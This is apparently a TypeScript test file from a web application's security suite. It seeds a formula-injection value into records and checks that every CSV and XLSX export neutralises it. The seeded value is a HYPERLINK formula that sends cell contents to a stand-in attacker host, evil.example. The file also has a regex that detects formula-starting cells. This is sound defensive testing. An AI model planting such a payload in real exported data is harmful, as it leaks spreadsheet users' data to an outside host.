import { randomUUID } from 'node:crypto';
/**
 * The attack suite's export class (see suite.ts): every operation of the OpenAPI document that
 * answers a table (text/csv or XLSX) is fed a formula-shaped value in the data it exports, and
 * every cell of its answer is checked: in CSV the value leaves with a leading apostrophe and no
 * cell starts as a formula would; in XLSX it is a text cell and no cell is a formula. An export
 * without a way to feed it here fails, so that the next export joins.
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { RESOURCES } from '#shared/resources/registry.ts';
import { RESOURCE_FIXTURES } from '../resource-fixtures.ts';
import { isExport, type Operation } from './operations.ts';
import { openWorld, seedRecords, type Owner } from './suite.ts';

const w = await openWorld('exports.test.ts');
const exportsOf = w.ops.filter(isExport).sort((a, b) => a.key.localeCompare(b.key));
afterAll(async () => {
  w.record();
  await w.close();
});

const FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Invoice")';
const STARTS_AS_FORMULA = /^[=+\-@\t\r]/;
/** A negative number is written as a number (neutraliseCell leaves numbers alone). */
const NUMBER = /^-\d+(\.\d+)?$/;
const day = (offset: number) => new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10);

let owner: Owner;
let approvedRun = '';
/** Per resource: whether a record holding FORMULA in a text field was made. */
const fed: Record<string, boolean> = {};

/** Text fields of a create body that take free text (no choice list, format or pattern). */
function freeTextFields(op: Operation | undefined): string[] {
  return Object.entries(op?.body?.properties ?? {})
    .filter(([, s]) => (s.type === 'string' || (Array.isArray(s.type) && s.type.includes('string'))) && !s.enum && !s.format && !s.pattern && (s.maxLength ?? 1000) >= FORMULA.length)
    .map(([k]) => k);
}

beforeAll(async () => {
  owner = await w.people.owner();
  await seedRecords(owner);
  // The owner's own name is a formula: it reaches payslips (the bank and accounting files) and the commission report.
  expect((await owner.request('PATCH', '/api/user', { name: FORMULA })).statusCode).toBe(200);
  // A record of every resource with a formula in its free-text fields (one field at a time if all at once is refused).
  for (const d of RESOURCES) {
    const f = RESOURCE_FIXTURES[d.name]!;
    const refs = f.prepare ? await f.prepare((p, body) => owner.post(p, body), owner.userId) : {};
    const fields = freeTextFields(w.ops.find((o) => o.key === `POST /api/${d.name}`));
    const base = f.valid(77, refs) as Record<string, unknown>;
    const tries = [fields, ...fields.map((x) => [x])].filter((x) => x.length);
    fed[d.name] = false;
    for (const pick of tries) {
      const res = await owner.post(`/api/${d.name}`, { ...base, ...Object.fromEntries(pick.map((k) => [k, typeof base[k] === 'string' || base[k] === undefined ? FORMULA : base[k]])) });
      if (res.statusCode === 201 && JSON.stringify(res.data).includes('=HYPERLINK')) {
        fed[d.name] = true;
        break;
      }
    }
  }
  // A quote for a client whose name is a formula, accepted today: the emissions report's row.
  const client = await owner.post('/api/native-organisations', { ...(RESOURCE_FIXTURES['native-organisations']!.valid(78, {}) as object), name: FORMULA });
  expect(client.statusCode, client.body).toBe(201);
  const quote = await owner.post('/api/quotes', {
    client: { type: 'native_organisation', id: client.data.data.id }, mode: 'road_ftl', origin: 'NLRTM', destination: 'DEHAM', currency: 'EUR', valid_until: '2099-12-31',
    cargo: [{ packages: 1, length_cm: 120, width_cm: 80, height_cm: 150, weight_kg: 400 }], lines: [{ basis: 'per_shipment', buy: { amount_minor: 1000, currency: 'EUR' }, sell: { amount_minor: 2000, currency: 'EUR' } }],
  });
  expect(quote.statusCode, quote.body).toBe(201);
  await owner.post(`/api/quotes/${quote.data.data.id}/send`, {});
  expect((await owner.post(`/api/quotes/${quote.data.data.id}/accept`, {})).statusCode).toBe(200);
  const runs = (await owner.get('/api/payroll-runs?per_page=100')).data.data as { id: string; status: string }[];
  approvedRun = runs.find((r) => r.status === 'approved')?.id ?? '';
  expect(approvedRun).not.toBe('');
  // An AI call of the owner's: the usage export names its member (the formula).
  expect((await owner.post('/api/ai/quote-drafts', { text: 'Please quote FCL 1 x 40HC Shanghai to Felixstowe, FOB.', request_id: randomUUID() })).statusCode).toBe(201);
  await w.settle();
});

/** The URLs an export is fetched at (each format it offers), or null when the suite has no way to feed it. */
function urlsOf(op: Operation): string[] | null {
  const formats = op.query.some((q) => q.name === 'format') ? ['csv', 'xlsx'] : [null];
  const withFormat = (path: string, extra = '') => formats.map((f) => `${path}?${[f && `format=${f}`, extra].filter(Boolean).join('&')}`.replace(/\?$/, ''));
  const resource = RESOURCES.find((d) => op.path === `/api/${d.name}/export`);
  if (resource) return withFormat(op.path);
  if (/^\/api\/payroll-runs\/\{id\}\/(bank|accounting)\.csv$/.test(op.path)) return [op.path.replace('{id}', approvedRun)];
  if (op.path === '/api/commissions/report/export' || op.path === '/api/emissions/report/export') return withFormat(op.path, `from=${day(-1)}&to=${day(1)}`);
  if (op.path === '/api/ai/usage/export') return withFormat(op.path);
  if (op.path.endsWith('/import-template') || op.path.endsWith('/template')) return withFormat(op.path);
  return null;
}

/** Every cell of a CSV or XLSX answer, with whether a cell is a formula (XLSX). */
async function cellsOf(body: Buffer, type: string): Promise<{ text: string; formula: boolean }[]> {
  if (type.startsWith('text/csv')) {
    const rows = parse(body.toString('utf8').replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
    return rows.flat().map((text) => ({ text, formula: false }));
  }
  const { default: ExcelJS } = await import('exceljs');
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(body as unknown as ArrayBuffer);
  const out: { text: string; formula: boolean }[] = [];
  book.eachSheet((sheet) =>
    sheet.eachRow((row) =>
      row.eachCell((cell) => out.push({ text: typeof cell.value === 'string' ? cell.value : String(cell.text ?? ''), formula: cell.type === ExcelJS.ValueType.Formula || cell.formula !== undefined })),
    ),
  );
  return out;
}

describe('formula cells in every export (text/csv and XLSX operations of the OpenAPI document)', () => {
  it('finds the exports in the document', () => {
    expect(exportsOf.length).toBeGreaterThan(RESOURCES.length);
    expect(exportsOf.map((o) => o.key)).toEqual(expect.arrayContaining(['GET /api/payroll-runs/{id}/bank.csv', 'GET /api/commissions/report/export']));
  });

  it.each(exportsOf.map((o) => [o.key, o] as const))('%s', async (_key, op) => {
    const urls = urlsOf(op);
    expect(urls, `no way to feed ${op.key} a formula: teach urlsOf in exports.test.ts`).not.toBeNull();
    const problems: string[] = [];
    let sawFormula = false;
    for (const url of urls!) {
      const res = await w.call(owner, op.key, 'GET', url);
      if (res.status !== 200) {
        problems.push(`${url}: ${res.status} ${res.body.slice(0, 200)}`);
        continue;
      }
      const type = String(res.response.headers['content-type']);
      const cells = await cellsOf(res.response.rawPayload, type);
      w.figures.exportCellsChecked += cells.length;
      for (const c of cells) {
        if (c.formula) problems.push(`${url}: a formula cell ${c.text}`);
        if (type.startsWith('text/csv') && STARTS_AS_FORMULA.test(c.text) && !NUMBER.test(c.text)) problems.push(`${url}: a cell starts as a formula: ${c.text.slice(0, 80)}`);
      }
      const ours = cells.filter((c) => c.text.includes('=HYPERLINK'));
      sawFormula ||= ours.length > 0;
      for (const c of ours) {
        const expected = type.startsWith('text/csv') ? `'${FORMULA}` : FORMULA;
        if (c.text !== expected) problems.push(`${url}: the fed value left as ${c.text.slice(0, 80)}`);
      }
    }
    // Where data was fed (a resource with free text, the payroll files, the reports), it must show up neutralised.
    const resource = RESOURCES.find((d) => op.path === `/api/${d.name}/export`);
    const mustShow = resource ? fed[resource.name] : !/template/.test(op.path);
    if (mustShow && !sawFormula) problems.push('the formula fed to it is not in the export');
    w.figures.exportsChecked++;
    expect(problems).toEqual([]);
  });
});
